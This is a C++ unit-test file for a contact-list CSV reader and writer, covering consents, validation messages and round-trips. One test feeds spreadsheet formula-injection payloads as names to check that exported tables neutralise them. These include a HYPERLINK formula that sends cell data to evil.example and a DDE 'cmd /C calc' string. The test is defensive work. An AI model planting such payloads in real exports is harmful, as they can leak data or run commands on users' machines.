#include "agents/people/ContactTable.h"

#include <gtest/gtest.h>

namespace qd::agents {
namespace {

using namespace Qt::StringLiterals;

ContactRows read(const QByteArray& csv)
{
    const Result<ContactRows> rows = readContacts(csv, u"people.csv"_s, {1});
    EXPECT_TRUE(rows) << (rows ? "" : rows.error().text.toStdString());
    return rows ? *rows : ContactRows{};
}

TEST(ContactTable, ATableOfPeopleIsReadWithListsAndConsents)
{
    const ContactRows rows = read("name,e-mail,segments,agreed,refused,how\r\n\"Lovelace, Ada\",ada@Press.example,customers berlin,e-mail/newsletter sms,letter,form on the site\r\nBob,,customers,,,\r\n");
    ASSERT_TRUE(rows.faults.isEmpty()) << rows.faults.join(u'\n').toStdString();
    ASSERT_EQ(rows.rows.size(), 2);
    const ContactRow& ada = rows.rows.first();
    EXPECT_EQ(ada.line, 2);
    EXPECT_EQ(ada.fields.value(u"name"_s), u"Lovelace, Ada"_s);
    EXPECT_EQ(ada.fields.value(u"e-mail"_s), u"ada@press.example"_s);
    EXPECT_EQ(ada.segments, (QStringList{u"customers"_s, u"berlin"_s}));
    ASSERT_EQ(ada.consents.size(), 3);
    EXPECT_EQ(ada.consents[0].purpose, u"newsletter"_s);
    EXPECT_TRUE(ada.consents[1].given);
    EXPECT_FALSE(ada.consents[2].given);
    EXPECT_EQ(ada.consents[2].source, u"form on the site"_s);
    EXPECT_EQ(rows.rows[1].fields.keys(), QStringList{u"name"_s}) << "an empty cell is nothing";
}

TEST(ContactTable, NothingThatAStrangerCalledThemselvesIsAFormula)
{
    QList<ContactRow> rows;
    const QStringList names{u"=HYPERLINK(\"http://evil.example?\"&A1,\"x\")"_s, u"+cmd|' /C calc'!A0"_s, u"-2+3"_s, u"@SUM(A1)"_s, u"＝1+1"_s, u"'quoted"_s, u"Ada"_s};
    for (const QString& name : names)
        rows.append({0, {}, {{u"name"_s, name}, {u"phone"_s, u"+4915112345678"_s}}, {}, {{{}, u"e-mail"_s, {}, true, u"=form"_s, {}, {}}, {{}, u"sms"_s, {}, true, u"her word"_s, {}, {}}}});
    const QByteArray table = contactsTable(rows);
    for (const char* formula : {"\r\n=", "\"=", ",=", "\r\n+cmd", "\r\n-", "\r\n@", "\r\n＝"})
        EXPECT_FALSE(table.contains(formula)) << formula << " in\n" << table.toStdString();
    EXPECT_TRUE(table.contains(",+4915112345678,")) << "a number is a number";
    EXPECT_TRUE(table.contains("'=form; her word")) << "each source of what they said";
    const ContactRows again = readContacts(table, u"out.csv"_s, {1}).value();
    ASSERT_EQ(again.rows.size(), names.size()) << again.faults.join(u'\n').toStdString();
    for (qsizetype i = 0; i < names.size(); ++i)
        EXPECT_EQ(again.rows[i].fields.value(u"name"_s), names[i]) << "it comes in as it went out";
}

TEST(ContactTable, EachThingThatIsWrongIsNamedWithItsLineAndWhatWouldBeRight)
{
    const ContactRows rows = read("name,e-mail,phone,segments,agreed,how,id\n"
                                  "Ada,ada@press,,,,,\n"
                                  "Bob,,0151 1,Customers,,,\n"
                                  "Cid,cid@press.example,,,e-mail,,\n"
                                  "Dan,Cid@Press.example,,,,,x1\n"
                                  ",,,customers,,,\n"
                                  "Eve,eve@press.example\n"
                                  "Fay,,,,pigeon,form,\n");
    const QString all = rows.faults.join(u'\n');
    EXPECT_EQ(rows.faults.size(), 9) << all.toStdString();
    for (const char16_t* fault : {u"line 2, e-mail: what stands after its @ is no name of a host", u"line 3, phone: it is no phone number", u"line 3, segments: \"Customers\" is no name of a list",
                                  u"line 4, how: it does not say how that is known", u"line 5, e-mail: line 4 has the same address", u"line 5, id: it is no id", u"line 6, the whole line: it says nothing of anybody",
                                  u"line 7, the whole line: it has 2 fields; right would be: 7", u"line 8, agreed: \"pigeon\" is nothing that one can agree to"})
        EXPECT_TRUE(all.contains(QString::fromUtf16(fault))) << QString::fromUtf16(fault).toStdString() << "\n" << all.toStdString();
    for (const QString& fault : rows.faults)
        EXPECT_TRUE(fault.contains(u"; right would be: "_s)) << fault.toStdString();
}

TEST(ContactTable, ColumnsThatThereAreNotAreSaidOnceAndNotForEachLine)
{
    const ContactRows rows = read("name,Email,name\nAda,ada,x\nBob,bob,y\n");
    ASSERT_EQ(rows.faults.size(), 2) << rows.faults.join(u'\n').toStdString();
    EXPECT_TRUE(rows.faults[0].startsWith(u"line 1, column \"Email\": there is no such column; right would be: one of name, e-mail"_s));
    EXPECT_TRUE(rows.faults[1].contains(u"it stands there twice"_s));
    EXPECT_EQ(read("name\n").faults.size(), 1);
    QByteArray many = "name\n";
    for (int i = 0; i <= kMostPeople; ++i)
        many += "Ada\n";
    EXPECT_TRUE(read(many).faults.value(0).contains(u"1001 lines"_s));
}

TEST(ContactTable, WhatIsWrittenReadsBackTheSame)
{
    ContactRow ada{0, {Uuid{1, 2}}, {{u"name"_s, u"Ada \"Countess\", of Lovelace"_s}, {u"phone"_s, u"+4915112345678"_s}}, {u"customers"_s, u"press"_s}, {}};
    ada.consents = {{{}, u"e-mail"_s, u"newsletter"_s, true, u"form"_s, {1}, {}}, {{}, u"sms"_s, {}, false, u"form"_s, {1}, {}}};
    const QByteArray table = contactsTable({ada});
    EXPECT_TRUE(table.startsWith("id,name,phone,segments,agreed,refused,how\r\n")) << table.toStdString();
    const ContactRows rows = read(table);
    ASSERT_TRUE(rows.faults.isEmpty()) << rows.faults.join(u'\n').toStdString();
    EXPECT_EQ(rows.rows.first().fields, ada.fields);
    EXPECT_EQ(rows.rows.first().id, ada.id);
    EXPECT_EQ(rows.rows.first().segments, ada.segments);
    EXPECT_EQ(rows.rows.first().consents.size(), 2);
}

} // namespace

TEST(ContactTable, OneWhoIsWrittenDownByHandIsReadAsALineAndSaysWhatIsWrongByField)
{
    const agents::ContactByHand ada = agents::contactByHand({{u"name"_s, u" Ada "_s}, {u"note"_s, u"'=1"_s}, {u"segments"_s, u"press press"_s}, {u"agreed"_s, u"e-mail/news sms"_s}, {u"how"_s, u"a form"_s}}, Instant{7});
    ASSERT_TRUE(ada.faults.isEmpty()) << agents::faultWords(ada.faults.first()).toStdString();
    EXPECT_EQ(ada.row.fields, (agents::PersonalFields{{u"name"_s, u"Ada"_s}, {u"note"_s, u"'=1"_s}})) << "it is no cell of a spreadsheet";
    EXPECT_EQ(ada.row.segments, QStringList{u"press"_s});
    ASSERT_EQ(ada.row.consents.size(), 2);
    EXPECT_EQ(ada.row.consents[0].purpose, u"news"_s);
    EXPECT_EQ(ada.row.consents[1].at, Instant{7});
    const agents::ContactByHand wrong = agents::contactByHand({{u"e-mail"_s, u"ada"_s}, {u"segments"_s, u"Best"_s}, {u"refused"_s, u"sms"_s}, {u"id"_s, u"7"_s}}, Instant{7});
    QStringList where;
    for (const agents::ContactFault& fault : wrong.faults)
        where.append(fault.where);
    EXPECT_EQ(where, (QStringList{u"e-mail"_s, u"id"_s, u"segments"_s, u"how"_s}));
    EXPECT_EQ(agents::contactByHand({{u"segments"_s, u"press"_s}}, Instant{7}).faults.value(0).where, u"name"_s);
}

} // namespace qd::agents
